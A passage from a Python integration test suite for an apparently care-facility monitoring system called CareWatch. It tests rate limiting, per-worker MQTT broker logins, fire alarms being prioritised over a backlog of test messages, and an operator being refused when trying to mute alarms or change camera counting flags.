    # a browser session: its own bucket, pages and API alike (static files are not counted)
    browser = await _session(url, "oper-b", "pw-b")
    try:
        answers = await _hammer(browser, f"{url}/api/v1/facilities", 300)
        refused = [a for a in answers if a[0] == 429]
        assert refused and all(int(r) >= 1 and "this session" in b for _, r, b in refused)
        assert (await _hammer(browser, f"{url}/static/app.css", 1))[0][0] != 429
    finally:
        await browser.close()


async def test_two_ingest_workers_on_the_provisioned_broker_do_not_throw_each_other_off(
    broker: tuple[LocalStack, int],
    services: Services,
    db: asyncpg.Connection,
    db_url: str,
    tmp_path: Path,
) -> None:
    """Issue #38 F: the broker binds a client id to its username, and every ingest worker logged in as
    `carewatch-ingest`, so two workers (docs/scaling.md) took the one session from each other for ever:
    356 "already connected, closing old connection" in 20 s, 0 of 2,000 messages stored. Now
    `carewatch provision --ingest-workers 2` makes a login per worker and `carewatch ingest --worker k`
    logs in as its own."""
    from contract.registry import DeviceType
    from runtime.stack import free_port
    from tests.test_ingest_faults import healthy, start_cli, stop_processes

    stack, port = broker
    await load_registry(db, PROV_REG)
    out = tmp_path / "creds"
    env = {**os.environ, "CAREWATCH_DATABASE_URL": db_url, "CAREWATCH_MQTT_URL": "mqtt://x"}
    cmd = [sys.executable, "-m", "carewatch.cli", "provision", "--ingest-workers", "2"]
    done = subprocess.run(
        [*cmd, "--broker-dir", str(stack.mq_dir), "--out", str(out)], env=env, capture_output=True, check=False
    )
    assert done.returncode == 0, done.stderr.decode()[-2000:]
    stack.apply_auth()
    secrets_ = yaml.safe_load((out / "services.yaml").read_text())
    # the mechanism: one login twice is one session handed back and forth (what the log below counts)
    first = _Session(port, "carewatch-ingest", secrets_["carewatch-ingest"], "a")
    second = _Session(port, "carewatch-ingest", secrets_["carewatch-ingest"], "b")
    assert first.gone.wait(5), "the broker binds a client id to its username"
    for s in (first, second):
        s.close()
    log_file = stack.mq_dir / "mosquitto.log"
    kicked_before = log_file.read_text(errors="replace").count("already connected, closing old connection")
    broker_url = Services(services.database_url, f"mqtt://127.0.0.1:{port}")  # no user: each takes its own
    log = tmp_path / "ingest.log"
    ports = [free_port(), free_port()]
    own = ["--mqtt-credentials", str(out / "services.yaml")]
    workers = [
        start_cli(
            broker_url, db_url, "cw/v1", ["ingest", "--worker", str(k + 1), *own, "--metrics", f"127.0.0.1:{p}"], log
        )
        for k, p in enumerate(ports)
    ]
    sensor = next(d.id for d in PROV_REG.facilities[0].devices if d.type is DeviceType.ENV_SENSOR)
    fac = PROV_REG.facilities[0].id
    pub = Publisher("127.0.0.1", port, auth=("carewatch-simulator", secrets_["carewatch-simulator"]))
    try:
        for p in ports:
            await wait_for(lambda p=p: healthy(p), 30, f"ingest on {p} up")
        await asyncio.sleep(1.0)
        ts = datetime.now(UTC).isoformat()
        for i in range(2000):
            body = {"msg_id": f"f38-{i}", "ts": ts, "readings": {"co2_ppm": 600 + i % 50}}
            pub.publish(f"cw/v1/{fac}/{sensor}/telemetry", payload(body))
        pub.flush()

        async def stored() -> bool:
            return int(await db.fetchval("SELECT count(*) FROM readings WHERE metric = 'co2_ppm'")) >= 2000

        await wait_for(stored, 30, "2,000 readings stored")
        await asyncio.sleep(2.0)
        alive = [await healthy(p) for p in ports]
    finally:
        pub.close()
        stop_processes(*workers)
    kicked = log_file.read_text(errors="replace").count("already connected, closing old connection") - kicked_before
    assert kicked == 0, f"{kicked} times a worker took the other's session"
    assert alive == [True, True]
    assert await db.fetchval("SELECT count(DISTINCT msg_id) FROM readings WHERE metric = 'co2_ppm'") == 2000


async def test_test_messages_are_limited_and_no_backlog_delays_a_fire_alarm(
    site: dict[str, object], db: asyncpg.Connection, db_url: str
) -> None:
    """Issue #38 D: an operator queued 300 test messages in 0.9 s, and against a WeCom robot answering
    in 150 ms with WeCom's 20 messages a minute, the outbox sent them in queue order: a critical fire
    alarm reached the robot after 75.7 s (refused 45009 on the way). Now a user queues a few tests an
    hour (429 with the reason), the outbox sends the most urgent first and keeps each robot under its
    limit with room left for alarms: the alarm arrives in seconds behind 300 queued messages, and the
    robot never has to refuse one."""
    from alerts.notify import NotifyConfig, Outbox
    from bench.wecom import FakeWeCom
    from contract.config import Channels
    from storage.alerts import Change
    from storage.notifications import add_subscription
    from tests.test_web import B

    url = str(site["url"])
    user_id = await db.fetchval("SELECT id FROM users WHERE username = 'oper-b'")
    robot = "city-robot-0038"
    sid = await add_subscription(db, user_id, "wecom", robot, None, None, "warning", None, "zh")
    s = await _session(url, "oper-b", "pw-b")
    try:
        page = await (await s.get(f"{url}/settings/notifications")).text()
        csrf = re.search(r'name="csrf" value="([^"]+)"', page)
        assert csrf, page

        async def test_once() -> tuple[int, str]:
            r = await s.post(
                f"{url}/settings/notifications/{sid}/test", data={"csrf": csrf.group(1)}, allow_redirects=False
            )
            return r.status, await r.text()

        answers = await asyncio.gather(*(test_once() for _ in range(300)))
    finally:
        await s.close()
    statuses = [st for st, _ in answers]
    assert statuses.count(302) <= 5 and statuses.count(429) == 300 - statuses.count(302), sorted(set(statuses))
    refusal = next(text for st, text in answers if st == 429)
    assert "测试消息每小时最多" in refusal, refusal[:500]
    assert await db.fetchval("SELECT count(*) FROM notification_deliveries WHERE event = 'test'") <= 5
    # a backlog such a flood (or sixty users' tests) leaves for the city's robot
    await db.execute(
        "INSERT INTO notification_deliveries (subscription_id, user_id, channel, event, title, body)"
        " SELECT $1, $2, 'wecom', 'test', 'CareWatch 测试消息', '测试 ' || g FROM generate_series(1, 300) g",
        sid,
        user_id,
    )
    fake = FakeWeCom()
    await fake.start()
    pool = await asyncpg.create_pool(as_role(db_url, "alerts"), min_size=1, max_size=4)
    http = aiohttp.ClientSession()
    outbox = Outbox(NotifyConfig(channels=Channels(wecom_url=fake.url), poll_s=0.2), pool, http, lambda _c: None)
    stop = asyncio.Event()
    runner = asyncio.create_task(outbox.run(stop))
    try:
        await asyncio.sleep(2.0)  # the robot's minute is already taken by the backlog
        sent_before = len(fake.received)
        t0 = time.monotonic()
        fire = Change(int(str(site["alert_b"])), "opened", B.id, "fire_alarm", "critical", "facility", False, "火警")
        assert await outbox.queue(fire, datetime.now(UTC)) == 1
        arrived = None
        with contextlib.suppress(AssertionError):  # reported below, with what the robot refused
            await wait_for(lambda: asyncio.sleep(0, result=fake.arrived(robot, "火灾报警") is not None), 10, "alarm")
            arrived = fake.arrived(robot, "火灾报警")
    finally:
        stop.set()
        await asyncio.wait_for(runner, 20)
        await http.close()
        await pool.close()
        await fake.stop()
    assert arrived is not None, f"the fire alarm did not reach the robot in 10 s ({len(fake.refused)} refused)"
    assert arrived - t0 < 5.0, f"the fire alarm took {arrived - t0:.1f} s behind the backlog"
    assert sent_before >= 10, "the backlog was being sent meanwhile"
    assert fake.refused == [], f"the robot refused {len(fake.refused)} requests over its 20 a minute"


async def test_h_no_maintenance_window_an_operator_sets_hides_a_fire_alarm_from_the_inspectors(
    services: Services, db_url: str, db: asyncpg.Connection, topic_root: str
) -> None:
    """H: the supervised facility's operator sets a whole-facility maintenance window (31 days, from
    yesterday: the most the web allowed) and a smoke detector fires inside it. The fire alarm is not
    muted and its message is queued for the county inspector's robot; the window still silences what
    it is for, the health of the devices under work. Failed before: the alert was muted and nothing
    reached anyone at any level."""
    from contract.rules import Condition, Key
    from storage.alerts import open_alert
    from storage.maintenance import create_window
    from storage.notifications import add_subscription
    from tests.test_alert_service import FAC

    await load_registry(db, REG)
    now = datetime.now(UTC)
    # stored as the old rules let an operator set it (migration 023 kept such windows approved)
    start, end = now - timedelta(days=1), now + timedelta(days=30)
    await create_window(db, FAC.id, None, start, end, "装修 / works", "operator", status="approved")
    uid, _ = await create_user(db, "county-h", "inspector", "pw-county-h", county=FAC.county)
    await add_subscription(db, uid, "wecom", "http://127.0.0.1:9/hook", None, None, "warning", None, "zh")
    smoke = next(d.id for d in FAC.devices if d.type.value == "smoke_detector")
    pub = Publisher(*services.mqtt_host_port)
    try:
        async with alerts_running(make(services, db_url, topic_root)):
            body = {"msg_id": "fire-h", "ts": now_ts(), "type": "fire_alarm", "state": "active"}
            pub.publish(f"{topic_root}/{FAC.id}/{smoke}/event", payload(body))

            async def queued() -> bool:
                n = await db.fetchval(
                    "SELECT count(*) FROM notification_deliveries d JOIN alerts a ON a.id = d.alert_id"
                    " WHERE a.rule = 'fire_alarm' AND d.user_id = $1",
                    uid,
                )
                return bool(n)

            await wait_for(queued, 20, "the fire alarm's message for the county inspector")
    finally:
        pub.close()
    [fire] = await alerts(db, "fire_alarm")
    assert fire["muted"] is False, "a fire alarm inside an operator's window reaches the inspectors"
    # what a window is for: the health of the device under work is silenced (and still recorded)
    health = await open_alert(
        db, FAC.id, Key("device_offline", smoke), Condition("major", "离线", "offline"), now, mutable=True
    )
    assert health.muted is True


# -- counting cameras (issue #37, carers badged in while away): a declared capability the operator cannot drop --
async def test_an_operator_cannot_declare_its_cameras_non_counting(
    site: dict[str, object], db: asyncpg.Connection
) -> None:
    """Cameras that count the adults over the child areas bound the carers counted toward the ratio; without
    them the badges alone decide. The flag comes from the filed registry: an operator's upload that flips it
    is refused (403) and changes nothing, and the database keeps the flag to cameras over a child area."""
    from tests.test_web import B

    stored = "SELECT array_agg(id ORDER BY id) FROM devices WHERE facility_id = $1 AND counts_adults"
    before = await db.fetchval(stored, B.id)
    doc = B.model_dump(mode="json", by_alias=True, exclude_none=True)
    for d in doc["devices"]:
        if d.get("covers_child_area") and d["type"] == "camera":
            d["counts_adults"] = not d.get("counts_adults", False)
    async with (
        aiohttp.ClientSession() as s,
        s.post(
            f"{site['url']}/api/v1/registry",
            data=yaml.safe_dump({"facilities": [doc]}, allow_unicode=True),
            headers={"Authorization": f"Bearer {site['oper']}"},
        ) as r,
    ):
        assert r.status == 403, await r.text()
    assert await db.fetchval(stored, B.id) == before
    with pytest.raises(asyncpg.CheckViolationError):
        await db.execute("UPDATE devices SET counts_adults = true WHERE facility_id = $1 AND id = 'door-main'", B.id)
